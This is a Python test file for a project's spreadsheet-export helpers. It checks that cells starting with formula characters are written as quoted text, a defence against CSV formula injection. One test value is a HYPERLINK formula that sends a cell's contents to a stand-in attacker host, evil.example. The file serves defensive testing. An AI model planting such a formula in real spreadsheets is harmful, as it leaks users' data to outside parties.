"""Spreadsheets Signpost writes never carry a formula: a cell that would start one is
shown as the text it is, and nothing else changes."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.spreadsheet import FORMULA_PREFIXES, safe_cell, write_csv
from tests.security.hostile import hostile_text


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+44 1392 000000",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_value_that_would_start_a_formula_is_written_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3, 2.5, True, None, date(2026, 12, 2), "Safe Homes", "'quoted"])
def test_numbers_dates_and_plain_text_are_written_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


@given(st.lists(st.lists(hostile_text(max_size=30), min_size=2, max_size=2), max_size=5))
def test_no_cell_of_a_written_csv_starts_a_formula_and_every_value_survives(
    rows: list[list[str]],
) -> None:
    text = write_csv(["=reference", "narrative"], rows)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == ["'=reference", "narrative"]
    assert len(read) == len(rows) + 1
    for written, original in zip(read[1:], rows, strict=True):
        for cell, value in zip(written, original, strict=True):
            assert not cell.startswith(FORMULA_PREFIXES)
            assert cell == ("'" + value if value.startswith(FORMULA_PREFIXES) else value)
